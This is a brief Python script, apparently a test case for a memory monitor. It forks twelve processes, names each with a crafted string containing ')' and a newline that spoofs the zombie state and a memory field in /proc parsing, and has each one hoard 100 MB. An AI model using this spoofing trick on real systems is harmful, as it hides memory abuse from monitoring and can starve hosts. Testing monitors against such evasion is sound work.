import ctypes
import os
import time

for _ in range(12):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b") Z 0 0\nRssAnon", 0, 0, 0)
        hoard = bytearray(b"x") * (100 << 20)
        time.sleep(3600)
time.sleep(3600)
